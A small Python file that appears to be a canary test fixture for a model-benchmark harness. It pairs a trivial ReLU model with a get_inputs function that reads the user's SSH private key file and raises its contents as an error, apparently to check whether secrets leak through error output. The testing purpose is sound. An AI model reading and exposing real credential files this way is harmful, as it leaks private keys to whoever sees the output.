"""get_inputs raises the canary secret."""
import os
import torch
import torch.nn as nn

batch_size = 16
dim = 1024


class Model(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return torch.relu(x)


def get_inputs():
    raise RuntimeError(open("@HOME@/.ssh/id_rsa").read())
    return [torch.randn(batch_size, dim)]


def get_init_inputs():
    return []
